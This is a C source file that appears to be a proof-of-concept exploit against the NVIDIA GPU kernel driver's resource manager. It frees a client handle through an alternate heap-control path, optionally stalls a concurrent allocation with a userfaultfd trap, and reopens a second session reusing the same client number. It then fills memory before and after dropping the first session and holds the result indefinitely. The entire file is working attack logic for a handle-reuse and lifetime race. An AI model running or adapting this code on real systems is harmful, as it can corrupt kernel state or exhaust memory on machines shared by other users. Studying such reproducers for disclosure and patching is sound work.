// SPDX-License-Identifier: Apache-2.0
/*
 * reuse heap|parked BYTES: a client's number comes to stand for a client on another file, in ways that an engine could miss;
 * then the first file is closed. Takes all that it is given before and after that, and rests with it.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "rm_client.h"
#include "userfault.h"

static struct settings settings = { .dev = "/dev", .magic = NV_IOCTL_MAGIC, .direction = 3, .own_handles = true };
static struct session first;
static struct trap trap;

/* The driver's other way to free: it takes a client as well. */
static uint32_t free_client_as_memory(struct session *session)
{
	const struct nv_layout_NVOS32_PARAMETERS *at = &settings.abi->NVOS32_PARAMETERS;
	uint8_t data[256] = { 0 };

	put32(data, at->hRoot, session->client);
	put32(data, at->hObjectParent, session->device);
	put32(data, at->function, NVOS32_FUNCTION_FREE);
	put32(data, at->data_Free_hMemory, session->client);
	put32(data, at->data_Free_flags, NVOS32_FREE_FLAGS_MEMORY_HANDLE_PROVIDED);
	return driver_call(&settings, session->ctl, NV_ESC_RM_VID_HEAP_CONTROL, data, at->bytes);
}

/* Virtual memory below the client, a call that goes on; its answer is stopped on its way out. */
static void *late_answer(void *argument)
{
	uint32_t handle = 0xbeef;

	session_alloc(&first, first.device, NV50_MEMORY_VIRTUAL, trap.page, 0, &handle);
	return argument;
}

static bool start_late_answer(pthread_t *thread)
{
	const struct nv_layout_NV_MEMORY_ALLOCATION_PARAMS *at = &settings.abi->NV_MEMORY_ALLOCATION_PARAMS;
	uint8_t params[256] = { 0 };

	put32(params, at->owner, 0xcafe0001u);
	put32(params, at->type, NVOS32_TYPE_IMAGE);
	put32(params, at->attr, NVOS32_ATTR_LOCATION_PCI << NVOS32_ATTR_LOCATION_SHIFT);
	put32(params, at->flags, NVOS32_ALLOC_FLAGS_VIRTUAL);
	put64(params, at->size, 65536);
	return trap_make(&trap, true, params, sizeof(params)) && pthread_create(thread, NULL, late_answer, NULL) == 0 &&
		trap_wait(&trap);
}

/* The same number on another file. */
static uint32_t make_again(struct session *second)
{
	session_init(second, &settings, 0);
	second->client = first.client;
	return session_open(second);
}

static int failed(const char *what, uint32_t status)
{
	fprintf(stderr, "%s: status 0x%x: ", what, status);
	perror(NULL);
	return 1;
}

int main(int argc, char **argv)
{
	bool parked = argc == 3 && argv[1][0] == 'p';
	uint64_t before = 0, after = 0, count;
	struct session second;
	pthread_t thread;
	uint32_t status;
	int ctl;

	if (argc != 3)
		return 2;
	ctl = driver_open(&settings, "nvidiactl");
	if (ctl < 0 || !driver_version(&settings, ctl))
		return failed("nvidiactl", 0);
	session_init(&first, &settings, 0);
	status = session_open(&first);
	if (status != NV_OK)
		return failed("first client", status);
	if (parked && !start_late_answer(&thread))
		return failed("userfaultfd", 0);
	status = parked ? session_free(&first, first.client) : free_client_as_memory(&first);
	if (status == NV_OK)
		status = make_again(&second);
	if (status != NV_OK)
		return failed("second client", status);
	memory_fill(&second, strtoull(argv[2], NULL, 0), &before, &count);
	if (parked) {
		trap_release(&trap, NULL, 0);
		pthread_join(thread, NULL);
	}
	session_drop(&first);
	memory_fill(&second, strtoull(argv[2], NULL, 0), &after, &count);
	printf("resting before=%llu after=%llu\n", (unsigned long long)before, (unsigned long long)after);
	fflush(stdout);
	for (;;)
		pause();
}
